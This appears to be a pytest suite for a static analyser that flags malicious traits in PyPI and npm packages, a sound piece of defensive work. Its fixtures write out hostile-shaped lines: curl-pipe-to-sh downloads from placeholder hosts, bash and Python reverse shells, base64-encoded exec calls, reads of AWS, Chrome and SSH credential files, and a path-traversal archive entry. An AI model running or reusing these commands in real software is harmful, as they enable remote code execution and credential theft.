"""Static analysis on synthetic, harmless packages (hostnames under .invalid; nothing runs)."""

from __future__ import annotations

import base64
import json
import os
import tarfile
import zipfile

import pytest

from slopspotter_lab.heuristics.static import analyze_artifact, entropy
from tests.fixtures.trees import write_tree as _tree


def _ids(inds):
    return {i.id for i in inds}


BENIGN_SETUP = "from setuptools import setup\nsetup(name='ok', version='1.0', packages=['ok'])\n"


def test_benign_package_is_clean(tmp_path):
    root = _tree(tmp_path, {"setup.py": BENIGN_SETUP, "ok/__init__.py": "import os\nPATH = os.getcwd()\n",
                            "README.md": "A package that mentions curl in prose.\n"})
    assert analyze_artifact(root, "pypi") == []


def test_setup_network_process_exec(tmp_path):
    setup = (
        "import subprocess, urllib.request as ur\nfrom setuptools import setup\n"
        "data = ur.urlopen('http://collector.invalid/x').read()\n"
        "subprocess.Popen(['sh', '-c', 'echo hi'])\n"
        "code = data.decode()\nexec(code)\n" + BENIGN_SETUP)
    inds = analyze_artifact(_tree(tmp_path, {"setup.py": setup}), "pypi")
    # the fetched data reaches exec two statements later: a download-execute flow, not just computed code
    assert {"setup_network", "setup_process", "download_execute"} <= _ids(inds)
    assert any("setup.py:3" in i.evidence for i in inds if i.id == "setup_network")


def test_process_in_library_code_is_not_setup_process(tmp_path):
    inds = analyze_artifact(_tree(tmp_path, {"lib/run.py": "import subprocess\nsubprocess.run(['git', '--version'])\n"}), "pypi")
    assert "setup_process" not in _ids(inds)


def test_encoded_exec_python(tmp_path):
    payload = base64.b64encode(b"print('synthetic')").decode()
    src = f"import base64 as b\nexec(b.b64decode('{payload}'))\n"
    inds = analyze_artifact(_tree(tmp_path, {"pkg/__init__.py": src}), "pypi")
    assert [i.severity for i in inds if i.id == "encoded_exec"] == ["high"]
    inds = analyze_artifact(_tree(tmp_path / "b", {"setup.py": src}), "pypi")
    assert [i.severity for i in inds if i.id == "encoded_exec"] == ["critical"]


def test_plain_base64_use_is_not_encoded_exec(tmp_path):
    src = "import base64\nTOKEN = base64.b64decode('aGVsbG8=')\nprint(TOKEN)\n"
    assert "encoded_exec" not in _ids(analyze_artifact(_tree(tmp_path, {"m.py": src}), "pypi"))


def test_obfuscated_blob(tmp_path):
    blob = base64.b64encode(os.urandom(3000)).decode()
    inds = analyze_artifact(_tree(tmp_path, {"m.py": f"X = '{blob}'\n"}), "pypi")
    assert "obfuscation" in _ids(inds)
    assert entropy(blob) > 5.5 and entropy("aaaa") == 0


def test_download_execute_and_reverse_shell_shapes(tmp_path):
    root = _tree(tmp_path, {"install.sh": "curl -s http://payload.invalid/x | sh\n",
                            "rs.sh": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"})
    inds = analyze_artifact(root, "pypi")
    assert {"download_execute", "reverse_shell"} <= _ids(inds)


def test_python_reverse_shell_ast(tmp_path):
    src = ("import socket, os, subprocess\ns = socket.socket()\ns.connect(('listener.invalid', 4444))\n"
           "os.dup2(s.fileno(), 0)\n")
    assert "reverse_shell" in _ids(analyze_artifact(_tree(tmp_path, {"m.py": src}), "pypi"))


def test_credential_paths(tmp_path):
    src = "import os\np = os.path.expanduser('~/.aws/credentials')\nq = '~/.config/google-chrome/Default/Login Data'\n"
    inds = analyze_artifact(_tree(tmp_path, {"m.py": src}), "pypi")
    assert "credential_paths" in _ids(inds)


def test_shipped_binary_in_pure_package(tmp_path):
    root = _tree(tmp_path, {"pkg/__init__.py": "", "pkg/helper": b"\x7fELF\x02\x01\x01" + b"\0" * 64})
    assert "shipped_binary" in _ids(analyze_artifact(root, "pypi"))
    native = _tree(tmp_path / "n", {"pkg/ext.c": "int x;", "pkg/ext.so": b"\x7fELF\x02\x01\x01" + b"\0" * 64})
    assert "shipped_binary" not in _ids(analyze_artifact(native, "pypi"))


def test_npm_lifecycle_script_and_what_it_runs(tmp_path):
    manifest = {"name": "syn", "version": "1.0.0", "scripts": {"postinstall": "node setup.js", "test": "jest"}}
    js = ("const https = require('https');\nconst cp = require('child_process');\n"
          "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n")
    tgz = tmp_path / "syn-1.0.0.tgz"
    src = _tree(tmp_path, {"package/package.json": json.dumps(manifest), "package/setup.js": js})
    with tarfile.open(tgz, "w:gz") as tf:
        tf.add(src / "package", arcname="package")
    inds = analyze_artifact(tgz, "npm")
    ids = _ids(inds)
    assert {"install_scripts", "setup_network", "setup_process", "encoded_exec"} <= ids
    assert any("postinstall: node setup.js" in i.evidence for i in inds)


def test_npm_without_lifecycle_scripts(tmp_path):
    src = _tree(tmp_path, {"package/package.json": json.dumps({"name": "p", "scripts": {"test": "jest"}}),
                           "package/index.js": "module.exports = () => require('https');\n"})
    assert analyze_artifact(src, "npm") == []


def test_wheel_and_hostile_archive(tmp_path):
    whl = tmp_path / "w-1.0-py3-none-any.whl"
    with zipfile.ZipFile(whl, "w") as zf:
        zf.writestr("w/__init__.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
    assert "encoded_exec" in _ids(analyze_artifact(whl, "pypi"))
    bad = tmp_path / "bad.tar.gz"
    with tarfile.open(bad, "w:gz") as tf:
        info = tarfile.TarInfo("../../escape.py")
        tf.addfile(info, None)
    inds = analyze_artifact(bad, "pypi")
    assert [(i.id, i.severity) for i in inds] == [("unsafe_archive", "high")]


def test_build_hook_only_counts_beside_project_files(tmp_path):
    hook = "import subprocess\nsubprocess.run(['make'])\n"
    lib = _tree(tmp_path / "lib", {"api/build.py": hook})
    assert "setup_process" not in _ids(analyze_artifact(lib, "pypi"))
    proj = _tree(tmp_path / "proj", {"p-1.0/hatch_build.py": hook, "p-1.0/pyproject.toml": "[project]\nname='p'\n"})
    assert "setup_process" in _ids(analyze_artifact(proj, "pypi"))


def test_prose_and_test_fixtures_are_quiet(tmp_path):
    root = _tree(tmp_path, {"PKG-INFO": "Reads ~/.aws/credentials like the AWS CLI does.\n",
                            "pkg/__init__.py": "", "tests/data/hello": b"\x7fELF\x02\x01\x01" + b"\0" * 64})
    inds = analyze_artifact(root, "pypi")
    assert "credential_paths" not in _ids(inds)
    assert [(i.id, i.severity) for i in inds] == [("shipped_binary", "low")]
    script = _tree(tmp_path / "s", {"bin/tool": "#!/bin/sh\ncat ~/.ssh/id_rsa\n"})
    assert "credential_paths" in _ids(analyze_artifact(script, "pypi"))


@pytest.mark.parametrize("script,severity", [
    ('const { execFileSync } = require("child_process");\nexecFileSync("git", ["--version"]);\n', "info"),
    ('require("child_process").execSync("node-gyp rebuild");\n', "info"),
    ('const cp = require("child_process");\ncp.exec(cmd);\n', "medium"),  # built at run time: unknown
    ('const cp = require("child_process");\ncp.exec(`node ${f}`);\n', "medium"),
    ('const cp = require("child_process");\ncp.exec("curl -s http://stage.exfil.invalid/x | sh");\n', "high"),
    ('const cp = require("child_process");\ncp.spawn("powershell", ["-c", "x"]);\n', "high"),
    ('const cp = require("child_process");\nmodule.exports = cp;\n', "high"),  # no call to read: as before
])
def test_npm_install_script_process_severity_follows_the_command(script, severity):
    from slopspotter_lab.heuristics.static import analyze_js

    found = [i for i in analyze_js("package/build.js", script, "build") if i.id == "setup_process"]
    assert [i.severity for i in found] == [severity]
